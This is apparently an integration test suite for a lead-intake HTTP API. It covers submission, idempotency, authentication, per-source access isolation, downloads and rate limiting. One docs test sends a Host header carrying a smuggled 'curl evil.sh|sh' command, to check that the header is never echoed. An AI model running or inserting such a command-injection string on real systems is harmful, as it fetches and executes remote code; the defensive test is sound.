import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import type { FastifyInstance } from 'fastify';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiKey, ensureFirstAdmin, login } from '../../src/auth/auth.service.js';
import { loadConfig } from '../../src/config.js';
import type { FlowDefinition } from '../../src/flows/flow.schema.js';
import { applyFlow } from '../../src/flows/flow.service.js';
import { createApp } from '../../src/http/app.js';
import { runImport } from '../../src/imports/import.service.js';
import { openTabularFile } from '../../src/ingest/open-file.js';
import { pruneExpired } from '../../src/maintenance.js';
import { createTestStore, DIALECTS, type TestStore } from '../helpers/stores.js';

const solar = JSON.parse(
  fs.readFileSync(new URL('../../examples/solar-flow.json', import.meta.url), 'utf8'),
) as FlowDefinition;
const roofing: FlowDefinition = {
  ...solar,
  id: 'roofing',
  name: 'Roofing',
  sources: [{ id: 'other-media', name: 'Other Media' }],
};
const exampleCsv = decodeURIComponent(new URL('../../examples/solar-leads.csv', import.meta.url).pathname);

interface Call {
  token?: string | undefined;
  body?: unknown;
  form?: string;
  headers?: Record<string, string>;
}

for (const dialect of DIALECTS) {
  describe(`HTTP API on ${dialect}`, () => {
    let t: TestStore;
    let app: FastifyInstance;
    const tokens: Record<'admin' | 'session' | 'sourceA' | 'sourceB' | 'wrong', string> = {
      admin: '',
      session: '',
      sourceA: '',
      sourceB: '',
      wrong: 'lp_not-a-real-key',
    };
    let importId = '';

    const api = async (method: string, url: string, call: Call = {}) => {
      const headers: Record<string, string> = { ...call.headers };
      if (call.token) headers.authorization = `Bearer ${call.token}`;
      if (call.form !== undefined) headers['content-type'] = 'application/x-www-form-urlencoded';
      const response = await app.inject({
        method: method as 'GET',
        url,
        headers,
        ...(call.form !== undefined
          ? { payload: call.form }
          : call.body !== undefined
            ? { payload: call.body as object }
            : {}),
      });
      const json =
        response.headers['content-type']?.toString().includes('json') && response.body ? response.json() : undefined;
      return { status: response.statusCode, json, body: response.body, headers: response.headers };
    };
    const submit = (body: unknown, token = tokens.sourceA, headers: Record<string, string> = {}) =>
      api('POST', '/flows/solar/sources/acme-media/submit', { token, body, headers });

    beforeAll(async () => {
      t = await createTestStore(dialect, {
        LEADPORT_ADMIN_EMAIL: 'admin@example.com',
        LEADPORT_ADMIN_PASSWORD: 'correct-horse',
        LEADPORT_AUTH_FAILURES_PER_MINUTE: '10000',
      });
      await applyFlow(t.store.db, solar);
      await applyFlow(t.store.db, roofing);
      await ensureFirstAdmin(t.store.db, t.config);
      tokens.admin = (await createApiKey(t.store.db, { kind: 'admin' })).key;
      tokens.sourceA = (await createApiKey(t.store.db, { kind: 'source', sourceId: 'acme-media' })).key;
      tokens.sourceB = (await createApiKey(t.store.db, { kind: 'source', sourceId: 'other-media' })).key;
      tokens.session = (await login(t.store.db, 'admin@example.com', 'correct-horse')).token;
      importId = (await runImport(t.store, t.config, { file: exampleCsv, flowId: 'solar', sourceId: 'acme-media' }))
        .importId;
      app = await createApp({ config: t.config, store: t.store });
    });
    afterAll(async () => {
      await app.close();
      await t.destroy();
    });

    describe('real-time submission', () => {
      it('accepts JSON and answers 201 with the outcome and a lead id', async () => {
        const response = await submit({
          first_name: 'Zed',
          email: 'ZED@Example.com ',
          phone_1: '(512) 555-0199',
          state: 'Texas',
          postal_code: 2134,
        });
        expect(response.status).toBe(201);
        expect(response.json).toEqual({ outcome: 'success', lead: { id: expect.any(String) } });
        const lead = await api('GET', `/api/leads/${response.json.lead.id}`, { token: tokens.sourceA });
        expect(lead.json).toMatchObject({
          stored: true,
          sourceId: 'acme-media',
          fields: {
            first_name: 'Zed',
            email: 'zed@example.com',
            phone_1: '+15125550199',
            state: 'TX',
            postal_code: '02134',
          },
          raw: { email: 'ZED@Example.com ', postal_code: '2134' },
          values: {
            phone_1: { raw: '(512) 555-0199', normal: '+15125550199', valid: true, parts: { national: '5125550199' } },
          },
          events: [{ outcome: 'success', action: 'created', reason: null }],
        });
      });
      it('maps submitted keys as import headers are mapped and keeps unknown keys with the raw values', async () => {
        const response = await api('POST', '/flows/solar/sources/acme-media/submit', {
          token: tokens.sourceA,
          form: 'First+Name=Bob&E-mail=bob.keys%40example.com&State=Texas&utm_source=fb',
        });
        expect(response).toMatchObject({ status: 201, json: { outcome: 'success' } });
        const lead = await api('GET', `/api/leads/${response.json.lead.id}`, { token: tokens.sourceA });
        expect(lead.json.fields).toEqual({ first_name: 'Bob', email: 'bob.keys@example.com', state: 'TX' });
        expect(lead.json.raw).toMatchObject({ utm_source: 'fb', first_name: 'Bob' });
      });
      it('accepts form-encoded bodies like LeadConduit', async () => {
        const response = await api('POST', '/flows/solar/sources/acme-media/submit', {
          token: tokens.sourceA,
          form: 'first_name=Fay&email=fay%40example.com&state=AZ',
        });
        expect(response).toMatchObject({ status: 201, json: { outcome: 'success' } });
      });
      it('answers rejected leads with 201, outcome failure and the reason', async () => {
        const rejected = await submit({ first_name: 'Ned', email: 'ned@example.com', state: 'NY' });
        expect(rejected).toMatchObject({
          status: 201,
          json: { outcome: 'failure', reason: 'state must be one of TX, CA, AZ', lead: { id: expect.any(String) } },
        });
        const lead = await api('GET', `/api/leads/${rejected.json.lead.id}`, { token: tokens.admin });
        expect(lead.json).toMatchObject({
          stored: false,
          events: [{ outcome: 'failure', reason: 'state must be one of TX, CA, AZ' }],
        });
        const duplicate = await submit({ first_name: 'Maria', email: 'maria.garcia@example.com', state: 'TX' });
        expect(duplicate.json).toMatchObject({ outcome: 'failure', reason: 'duplicate' });
      });
      it('returns the first answer to a retried Idempotency-Key and creates one lead', async () => {
        const body = { first_name: 'Ida', email: 'ida@example.com', state: 'CA' };
        const first = await submit(body, tokens.sourceA, { 'idempotency-key': 'retry-1' });
        const second = await submit(body, tokens.sourceA, { 'idempotency-key': 'retry-1' });
        expect(first.status).toBe(201);
        expect(second).toMatchObject({ status: 201, json: first.json });
        expect(second.headers['idempotent-replayed']).toBe('true');
        const leads = await t.store.db
          .selectFrom('leads')
          .select('id')
          .where('fields', 'like', '%ida@example.com%')
          .execute();
        expect(leads).toHaveLength(1);
        const changed = await submit({ ...body, state: 'TX' }, tokens.sourceA, { 'idempotency-key': 'retry-1' });
        expect(changed).toMatchObject({ status: 422, json: { error: { code: 'idempotency_mismatch' } } });
      });
      it('answers 409 while the first request with an Idempotency-Key is in flight', async () => {
        const body = { first_name: 'Ivy', email: 'ivy@example.com', state: 'CA' };
        // The first request is being processed by another server process: its claim is in flight.
        const first = await submit(body, tokens.sourceA, { 'idempotency-key': 'race-0' });
        const scope = (
          await t.store.db
            .selectFrom('idempotency_keys')
            .select('scope')
            .where('key', '=', 'race-0')
            .executeTakeFirstOrThrow()
        ).scope;
        const hash = (
          await t.store.db
            .selectFrom('idempotency_keys')
            .select('request_hash')
            .where('key', '=', 'race-0')
            .executeTakeFirstOrThrow()
        ).request_hash;
        expect(first.status).toBe(201);
        await t.store.db
          .insertInto('idempotency_keys')
          .values({
            scope,
            key: 'race-1',
            request_hash: hash,
            status: 'in_flight',
            response: null,
            created_at: new Date().toISOString(),
          })
          .execute();
        const retried = await submit(body, tokens.sourceA, { 'idempotency-key': 'race-1' });
        expect(retried).toMatchObject({ status: 409, json: { error: { code: 'idempotency_in_flight' } } });
      });
      it('lets only one of many concurrent submissions of the same email succeed (group commit)', async () => {
        const bodies = Array.from({ length: 30 }, (_, i) => ({
          first_name: `C${i}`,
          email: `concurrent${i % 10}@example.com`,
          state: 'TX',
        }));
        const answers = await Promise.all(bodies.map((body) => submit(body)));
        expect(answers.every((answer) => answer.status === 201)).toBe(true);
        const outcomes = answers.map((answer) => answer.json.outcome as string);
        expect(outcomes.filter((outcome) => outcome === 'success')).toHaveLength(10);
        expect(answers.filter((answer) => answer.json.reason === 'duplicate')).toHaveLength(20);
        for (let email = 0; email < 10; email++) {
          const ofEmail = answers.filter((_, i) => i % 10 === email);
          expect(
            ofEmail.filter((answer) => answer.json.outcome === 'success'),
            `concurrent${email}`,
          ).toHaveLength(1);
        }
        const stored = await t.store.db
          .selectFrom('leads')
          .select('fields')
          .where('fields', 'like', '%concurrent%')
          .execute();
        expect(new Set(stored.map((row) => JSON.parse(row.fields).email)).size).toBe(10);
        expect(stored).toHaveLength(10);
      });
      it('validates the body and names the field', async () => {
        const nested = await submit({ first_name: { nested: true } });
        expect(nested.status).toBe(400);
        expect(nested.json.error.code).toBe('validation_failed');
        expect(nested.json.error.message).toContain('body.first_name');
        const flow = await api('POST', '/flows/nope/sources/acme-media/submit', { token: tokens.admin, body: {} });
        expect(flow).toMatchObject({ status: 404, json: { error: { code: 'flow_not_found' } } });
        const source = await api('POST', '/flows/roofing/sources/acme-media/submit', {
          token: tokens.sourceA,
          body: {},
        });
        expect(source).toMatchObject({ status: 404, json: { error: { code: 'source_not_found' } } });
      });
      // SQLite's busy database; PostgreSQL's transient errors (connections ended under load) are checked in
      // postgres-faults.test.ts.
      it.runIf(dialect === 'sqlite')(
        'is a 503 the client may retry when storage is busy, and leaks no internals',
        async () => {
          await sql`pragma busy_timeout = 50`.execute(t.store.db);
          const blocker = new Database(t.url.slice('sqlite:'.length));
          blocker.exec('begin immediate');
          try {
            const response = await submit({ first_name: 'Bo', email: 'bo@example.com', state: 'TX' });
            expect(response.status).toBe(503);
            expect(response.json).toEqual({
              error: { code: 'storage_unavailable', message: 'storage is busy or unavailable; retry the request' },
            });
          } finally {
            blocker.exec('rollback');
            blocker.close();
            await sql`pragma busy_timeout = 10000`.execute(t.store.db);
          }
          expect((await submit({ first_name: 'Bo', email: 'bo@example.com', state: 'TX' })).status).toBe(201);
        },
      );
    });

    describe('authentication', () => {
      it('refuses missing, wrong, malformed and revoked credentials', async () => {
        expect(await submit({}, '')).toMatchObject({ status: 401, json: { error: { code: 'unauthorized' } } });
        expect(await submit({}, tokens.wrong)).toMatchObject({
          status: 401,
          json: { error: { code: 'unauthorized' } },
        });
        expect((await api('GET', '/api/leads', { headers: { authorization: 'Basic abc' } })).status).toBe(401);
        const key = await createApiKey(t.store.db, { kind: 'source', sourceId: 'acme-media' });
        expect((await api('GET', '/api/leads', { token: key.key })).status).toBe(200);
        expect((await api('DELETE', `/api/keys/${key.id}`, { token: tokens.admin })).status).toBe(204);
        expect((await api('GET', '/api/leads', { token: key.key })).status).toBe(401);
      });
      it('signs admins in and out with sessions', async () => {
        expect(
          await api('POST', '/api/auth/login', { body: { email: 'admin@example.com', password: 'nope' } }),
        ).toMatchObject({ status: 401, json: { error: { code: 'unauthorized', message: 'wrong email or password' } } });
        const session = await api('POST', '/api/auth/login', {
          body: { email: 'ADMIN@example.com', password: 'correct-horse' },
        });
        expect(session.status).toBe(200);
        const token = session.json.token as string;
        expect((await api('GET', '/api/users', { token })).json).toEqual([
          expect.objectContaining({ email: 'admin@example.com', role: 'admin' }),
        ]);
        expect((await api('POST', '/api/auth/logout', { token })).status).toBe(204);
        expect((await api('GET', '/api/users', { token })).status).toBe(401);
      });
      it('stores keys hashed and never lists their secrets', async () => {
        const rows = await t.store.db.selectFrom('api_keys').selectAll().execute();
        expect(rows.every((row) => /^[0-9a-f]{64}$/.test(row.key_hash))).toBe(true);
        expect(JSON.stringify(rows)).not.toContain(tokens.sourceA);
        const listed = await api('GET', '/api/keys', { token: tokens.admin });
        expect(listed.body).not.toContain(tokens.sourceA);
        expect(listed.json[0]).not.toHaveProperty('key');
        expect(listed.json[0]).not.toHaveProperty('key_hash');
      });
    });

    describe('authorisation matrix: nothing leaks between sources', () => {
      const who = ['admin', 'session', 'sourceA', 'sourceB', 'none', 'wrong'] as const;
      type Who = (typeof who)[number];
      const token = (name: Who) => (name === 'none' ? undefined : tokens[name]);
      // Expected status per caller for every route. Source B must never see source A's data.
      const routes: {
        method: string;
        url: () => string;
        body?: unknown | (() => unknown);
        expect: Record<Who, number>;
      }[] = [
        {
          method: 'POST',
          url: () => '/flows/solar/sources/acme-media/submit',
          body: { first_name: 'M', email: 'matrix@example.com', state: 'NY' },
          expect: { admin: 201, session: 201, sourceA: 201, sourceB: 403, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => '/api/flows',
          expect: { admin: 200, session: 200, sourceA: 403, sourceB: 403, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => '/api/flows/solar',
          expect: { admin: 200, session: 200, sourceA: 403, sourceB: 403, none: 401, wrong: 401 },
        },
        {
          method: 'PUT',
          url: () => '/api/flows/solar',
          body: solar,
          expect: { admin: 200, session: 200, sourceA: 403, sourceB: 403, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => '/api/sources',
          expect: { admin: 200, session: 200, sourceA: 200, sourceB: 200, none: 401, wrong: 401 },
        },
        {
          method: 'PUT',
          url: () => '/api/sources/acme-media',
          body: { name: 'Acme Media' },
          expect: { admin: 200, session: 200, sourceA: 403, sourceB: 403, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => '/api/users',
          expect: { admin: 200, session: 200, sourceA: 403, sourceB: 403, none: 401, wrong: 401 },
        },
        {
          method: 'POST',
          url: () => '/api/users',
          body: () => ({ email: `u${Math.random().toString(36).slice(2)}@example.com`, password: 'long-enough' }),
          expect: { admin: 201, session: 201, sourceA: 403, sourceB: 403, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => '/api/keys',
          expect: { admin: 200, session: 200, sourceA: 403, sourceB: 403, none: 401, wrong: 401 },
        },
        {
          method: 'POST',
          url: () => '/api/keys',
          body: { kind: 'source', sourceId: 'acme-media' },
          expect: { admin: 201, session: 201, sourceA: 403, sourceB: 403, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => '/api/leads',
          expect: { admin: 200, session: 200, sourceA: 200, sourceB: 200, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => '/api/events',
          expect: { admin: 200, session: 200, sourceA: 200, sourceB: 200, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => '/api/flows/solar/sources/acme-media/docs',
          expect: { admin: 200, session: 200, sourceA: 200, sourceB: 404, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => '/api/imports',
          expect: { admin: 200, session: 200, sourceA: 200, sourceB: 200, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => `/api/imports/${importId}`,
          expect: { admin: 200, session: 200, sourceA: 200, sourceB: 404, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => `/api/imports/${importId}/failed.csv`,
          expect: { admin: 200, session: 200, sourceA: 200, sourceB: 404, none: 401, wrong: 401 },
        },
        {
          method: 'GET',
          url: () => '/api/templates',
          expect: { admin: 200, session: 200, sourceA: 403, sourceB: 403, none: 401, wrong: 401 },
        },
        {
          method: 'POST',
          url: () => '/api/templates',
          body: { flowId: 'solar', name: 'T', mapping: { Email: 'email' } },
          expect: { admin: 201, session: 201, sourceA: 403, sourceB: 403, none: 401, wrong: 401 },
        },
      ];
      for (const route of routes) {
        it(`${route.method} ${route.url().replace(/[0-9a-f-]{36}/, ':id')}`, async () => {
          const bodyOf = () => (typeof route.body === 'function' ? (route.body as () => unknown)() : route.body);
          const statuses = Object.fromEntries(
            await Promise.all(
              who.map(
                async (name) =>
                  [
                    name,
                    (await api(route.method, route.url(), { token: token(name), body: bodyOf() })).status,
                  ] as const,
              ),
            ),
          );
          expect(statuses).toEqual(route.expect);
        });
      }

      it("a source's lists, report and lead lookups hold only its own data", async () => {
        const ofA = (await submit({ first_name: 'Secret', email: 'secret-a@example.com', state: 'TX' })).json.lead
          .id as string;
        await api('POST', '/flows/roofing/sources/other-media/submit', {
          token: tokens.sourceB,
          body: { first_name: 'Bee', email: 'bee@example.com', state: 'TX' },
        });
        const leadsB = await api('GET', '/api/leads?limit=500', { token: tokens.sourceB });
        expect(leadsB.json.items.map((item: { fields: { email?: string } }) => item.fields?.email)).toEqual([
          'bee@example.com',
        ]);
        expect(leadsB.json.items.every((item: { sourceId: string }) => item.sourceId === 'other-media')).toBe(true);
        expect(leadsB.body).not.toContain('secret-a@example.com');
        const asked = await api('GET', '/api/leads?sourceId=acme-media', { token: tokens.sourceB });
        expect(asked.json.items.every((item: { sourceId: string }) => item.sourceId === 'other-media')).toBe(true);
        expect(await api('GET', `/api/leads/${ofA}`, { token: tokens.sourceB })).toMatchObject({
          status: 404,
          json: { error: { code: 'not_found' } },
        });
        const report = await api('GET', '/api/events', { token: tokens.sourceB });
        expect(report.json.rows.every((row: { sourceId: string }) => row.sourceId === 'other-media')).toBe(true);
        const imports = await api('GET', '/api/imports', { token: tokens.sourceB });
        expect(imports.json).toEqual([]);
        const sources = await api('GET', '/api/sources', { token: tokens.sourceB });
        expect(sources.json).toEqual([{ id: 'other-media', name: 'Other Media', flows: ['roofing'] }]);
      });
    });

    describe('maintenance and downloads', () => {
      it('prunes expired sessions and idempotency answers, keeping fresh ones', async () => {
        const old = new Date(Date.now() - 2 * 86_400_000).toISOString();
        await t.store.db
          .insertInto('idempotency_keys')
          .values({ scope: 's', key: 'old', request_hash: 'h', status: 'done', response: '{}', created_at: old })
          .execute();
        await t.store.db
          .insertInto('idempotency_keys')
          .values({
            scope: 's',
            key: 'fresh',
            request_hash: 'h',
            status: 'done',
            response: '{}',
            created_at: new Date().toISOString(),
          })
          .execute();
        await t.store.db
          .insertInto('sessions')
          .values({ token_hash: 'expired', user_id: 'u', created_at: old, expires_at: old })
          .execute();
        expect(await pruneExpired(t.store.db)).toBe(2);
        const keys = await t.store.db.selectFrom('idempotency_keys').select('key').where('scope', '=', 's').execute();
        expect(keys).toEqual([{ key: 'fresh' }]);
        expect(
          await t.store.db.selectFrom('sessions').select('token_hash').where('token_hash', '=', 'expired').execute(),
        ).toEqual([]);
      });
      it("downloads an import's failed rows as CSV", async () => {
        const csv = await api('GET', `/api/imports/${importId}/failed.csv`, { token: tokens.sourceA });
        expect(csv.headers['content-type']).toContain('text/csv');
        expect(csv.body.split('\r\n').slice(0, 2)).toEqual([
          '\uFEFFFirst Name,Last Name,Email,Phone,State,Zip,Roof type,row,error,duplicate_of',
          'Aiko,Tanaka,aiko.tanaka@example,602-555-0107,AZ,85001,metal,4,email is invalid: not a valid email address,',
        ]);
        const plain = await api('GET', `/api/imports/${importId}/failed.csv?bom=false`, { token: tokens.sourceA });
        expect(plain.body.startsWith('First Name,')).toBe(true);
        // The same rows as a workbook, read back with the reader imports use.
        const xlsx = await app.inject({
          method: 'GET',
          url: `/api/imports/${importId}/failed.xlsx`,
          headers: { authorization: `Bearer ${tokens.sourceA}` },
        });
        expect(xlsx.headers['content-type']).toContain('spreadsheetml');
        const file = path.join(os.tmpdir(), `failed-${importId}.xlsx`);
        fs.writeFileSync(file, xlsx.rawPayload);
        try {
          const workbook = await openTabularFile(file, { maxBytes: 10 * 1024 * 1024 });
          const rows: string[][] = [];
          for await (const batch of workbook.records()) for (const record of batch) rows.push(record.cells);
          expect(workbook.headers).toEqual([
            'First Name',
            'Last Name',
            'Email',
            'Phone',
            'State',
            'Zip',
            'Roof type',
            'row',
            'error',
            'duplicate_of',
          ]);
          expect(rows).toHaveLength(5);
          expect(rows[3]).toEqual([
            'Maria',
            'Garcia',
            'Maria.Garcia@Example.com',
            '512-555-0143',
            'TX',
            '78701',
            'shingle',
            '7',
            'duplicate',
            'email matches row 2 of this file',
          ]);
        } finally {
          fs.rmSync(file, { force: true });
        }
        const detail = await api('GET', `/api/imports/${importId}`, { token: tokens.sourceA });
        expect(detail.json).toMatchObject({
          id: importId,
          status: 'completed_with_errors',
          total: 9,
          created: 4,
          failed: 5,
          duplicates: 1,
        });
      });
    });

    describe('admin resources', () => {
      it('creates, updates and keeps flows through PUT /api/flows/:id', async () => {
        const created = await api('PUT', '/api/flows/wind', {
          token: tokens.admin,
          body: { ...solar, id: 'wind', name: 'Wind' },
        });
        expect(created).toMatchObject({ status: 200, json: { id: 'wind', result: 'created' } });
        expect(
          (await api('PUT', '/api/flows/wind', { token: tokens.admin, body: { ...solar, id: 'wind', name: 'Wind' } }))
            .json.result,
        ).toBe('unchanged');
        expect(
          (await api('PUT', '/api/flows/wind', { token: tokens.admin, body: { ...solar, name: 'Wind 2' } })).status,
        ).toBe(400);
        const invalid = await api('PUT', '/api/flows/wind', {
          token: tokens.admin,
          body: { name: 'Wind', fields: [{ name: 'Bad Name' }] },
        });
        expect(invalid).toMatchObject({
          status: 400,
          json: {
            error: {
              code: 'invalid_flow_definition',
              details: { problems: [expect.stringContaining('fields.0.name')] },
            },
          },
        });
        expect((await api('GET', '/api/flows/wind', { token: tokens.admin })).json).toMatchObject({
          id: 'wind',
          name: 'Wind',
        });
        expect((await api('GET', '/api/flows/nope', { token: tokens.admin })).status).toBe(404);
      });
      it('manages users', async () => {
        const created = await api('POST', '/api/users', {
          token: tokens.admin,
          body: { email: 'ops@example.com', password: 'long-enough' },
        });
        expect(created).toMatchObject({ status: 201, json: { email: 'ops@example.com', role: 'admin' } });
        expect(
          (
            await api('POST', '/api/users', {
              token: tokens.admin,
              body: { email: 'ops@example.com', password: 'long-enough' },
            })
          ).status,
        ).toBe(409);
        const both = await Promise.all(
          [1, 2].map(() =>
            api('POST', '/api/users', {
              token: tokens.admin,
              body: { email: 'twice@example.com', password: 'long-enough' },
            }),
          ),
        );
        expect(both.map((r) => r.status).sort()).toEqual([201, 409]);
        const short = await api('POST', '/api/users', {
          token: tokens.admin,
          body: { email: 'x@example.com', password: 'short' },
        });
        expect(short).toMatchObject({
          status: 400,
          json: { error: { code: 'validation_failed', details: { problems: [{ field: 'body.password' }] } } },
        });
        expect((await api('DELETE', `/api/users/${created.json.id}`, { token: tokens.admin })).status).toBe(204);
        expect((await api('DELETE', `/api/users/${created.json.id}`, { token: tokens.admin })).status).toBe(404);
      });
      it('creates source keys only for known sources', async () => {
        expect(
          await api('POST', '/api/keys', { token: tokens.admin, body: { kind: 'source', sourceId: 'ghost' } }),
        ).toMatchObject({ status: 404, json: { error: { code: 'source_not_found' } } });
        const created = await api('POST', '/api/keys', {
          token: tokens.admin,
          body: { kind: 'source', sourceId: 'other-media', name: 'B backup' },
        });
        expect(created.json).toMatchObject({
          kind: 'source',
          sourceId: 'other-media',
          name: 'B backup',
          key: expect.stringMatching(/^lp_/),
        });
      });
    });

    describe('leads view, report and docs', () => {
      it('lists submissions with filters, text search and pages', async () => {
        const failures = await api('GET', '/api/leads?outcome=failure&flowId=solar', { token: tokens.admin });
        expect(failures.json.items).toHaveLength(30);
        expect(failures.json.items.every((item: { outcome: string }) => item.outcome === 'failure')).toBe(true);
        // What was sent is shown for submissions that stored nothing: a real-time one's values by field, an
        // import row's cells by the file's headers.
        expect(failures.json.items).toContainEqual(
          expect.objectContaining({
            reason: 'state must be one of TX, CA, AZ',
            importId: null,
            fields: { first_name: 'Ned', email: 'ned@example.com', state: 'NY' },
          }),
        );
        expect(failures.json.items).toContainEqual(
          expect.objectContaining({
            importId,
            reason: 'first_name is required',
            fields: expect.objectContaining({ 'First Name': '', Email: 'linh.nguyen@example.com' }),
          }),
        );
        const search = await api('GET', '/api/leads?q=JAMES.SMITH', { token: tokens.admin });
        expect(search.json.items.map((item: { fields: { email?: string } }) => item.fields?.email)).toEqual([
          'james.smith@example.com',
        ]);
        const future = await api(
          'GET',
          `/api/leads?from=${encodeURIComponent(new Date(Date.now() + 3_600_000).toISOString())}`,
          { token: tokens.admin },
        );
        expect(future.json.items).toEqual([]);
        const first = await api('GET', '/api/leads?limit=3', { token: tokens.admin });
        expect(first.json.items).toHaveLength(3);
        const second = await api('GET', `/api/leads?limit=3&before=${encodeURIComponent(first.json.next)}`, {
          token: tokens.admin,
        });
        const ids = new Set([...first.json.items, ...second.json.items].map((item: { id: string }) => item.id));
        expect(ids.size).toBe(6);
        expect((await api('GET', '/api/leads?limit=0', { token: tokens.admin })).status).toBe(400);
      });
      it('reports counts by flow, source, outcome and reason', async () => {
        const report = await api('GET', '/api/events?flowId=solar', { token: tokens.admin });
        // The busy-storage test (SQLite only) stores one more lead.
        expect(report.json.totals).toEqual({ success: dialect === 'sqlite' ? 21 : 20, failure: 30, error: 0 });
        expect(report.json.rows).toContainEqual({
          flowId: 'solar',
          sourceId: 'acme-media',
          outcome: 'failure',
          reason: 'duplicate',
          count: expect.any(Number),
        });
        const sum = report.json.rows.reduce((total: number, row: { count: number }) => total + row.count, 0);
        expect(sum).toBe(report.json.totals.success + report.json.totals.failure + report.json.totals.error);
      });
      it("serves a source's submission docs data", async () => {
        // The URL is the listen address (LEADPORT_PUBLIC_URL when set), never the request's Host header.
        const docs = await api('GET', '/api/flows/solar/sources/acme-media/docs', {
          token: tokens.sourceA,
          headers: { host: "evil.example'; curl evil.sh|sh;'" },
        });
        expect(docs.json).toMatchObject({
          flow: { id: 'solar', name: 'Solar quotes' },
          source: { id: 'acme-media', name: 'Acme Media' },
          submitUrl: 'http://127.0.0.1:3000/flows/solar/sources/acme-media/submit',
          acceptance: ['email must be valid', 'state must be one of TX, CA, AZ'],
        });
        expect(docs.json.fields).toContainEqual({
          name: 'roof_type',
          label: 'Roof type',
          type: 'choice',
          required: false,
          choices: ['shingle', 'tile', 'metal'],
        });
        expect(docs.json.example.curl).toContain(
          "curl -X POST 'http://127.0.0.1:3000/flows/solar/sources/acme-media/submit'",
        );
        expect(docs.body).not.toContain('evil');
        const tried = await submit(docs.json.example.body);
        expect(tried.json.outcome).toBe('success');
      });
    });

    describe('HTTP hygiene', () => {
      it('serves the OpenAPI document generated from the route schemas', async () => {
        const spec = await api('GET', '/docs/json');
        expect(spec.status).toBe(200);
        expect(spec.json.paths).toHaveProperty(['/flows/{flowId}/sources/{sourceId}/submit']);
        expect(spec.json.paths['/flows/{flowId}/sources/{sourceId}/submit'].post.requestBody).toBeDefined();
        expect(Object.keys(spec.json.paths)).toEqual(
          expect.arrayContaining(['/api/leads', '/api/events', '/api/keys', '/api/flows/{id}']),
        );
      });
      it('answers unknown routes, oversized bodies and bad content types in the error shape', async () => {
        expect(await api('GET', '/api/nope', { token: tokens.admin })).toMatchObject({
          status: 404,
          json: { error: { code: 'not_found' } },
        });
        const big = await submit({ comments: 'x'.repeat(1_100_000) });
        expect(big).toMatchObject({ status: 413, json: { error: { code: 'file_too_large' } } });
        const xml = await api('POST', '/flows/solar/sources/acme-media/submit', {
          token: tokens.sourceA,
          body: '<lead/>',
          headers: { 'content-type': 'application/xml' },
        });
        expect(xml.status).toBe(415);
        expect(xml.json.error.code).toBe('unsupported_format');
      });
      it('keeps CORS closed unless origins are configured', async () => {
        const closed = await api('OPTIONS', '/api/leads', {
          headers: { origin: 'https://evil.example', 'access-control-request-method': 'GET' },
        });
        expect(closed.headers['access-control-allow-origin']).toBeUndefined();
        const config = loadConfig({
          DATABASE_URL: t.url,
          LOG_LEVEL: 'silent',
          LEADPORT_CORS_ORIGINS: 'https://crm.example',
        });
        const open = await createApp({ config, store: t.store });
        const response = await open.inject({
          method: 'OPTIONS',
          url: '/api/leads',
          headers: { origin: 'https://crm.example', 'access-control-request-method': 'GET' },
        });
        expect(response.headers['access-control-allow-origin']).toBe('https://crm.example');
        await open.close();
      });
      it('rate-limits per key with a 429 in the error shape', async () => {
        const config = loadConfig({ DATABASE_URL: t.url, LOG_LEVEL: 'silent', LEADPORT_RATE_LIMIT_PER_MINUTE: '3' });
        const limited = await createApp({ config, store: t.store });
        const call = (token: string) =>
          limited.inject({ method: 'GET', url: '/api/sources', headers: { authorization: `Bearer ${token}` } });
        for (let i = 0; i < 3; i++) expect((await call(tokens.sourceA)).statusCode).toBe(200);
        const over = await call(tokens.sourceA);
        expect(over.statusCode).toBe(429);
        expect(over.json()).toMatchObject({ error: { code: 'rate_limited' } });
        expect((await call(tokens.sourceB)).statusCode).toBe(200);
        await limited.close();
      });
    });
  });
}
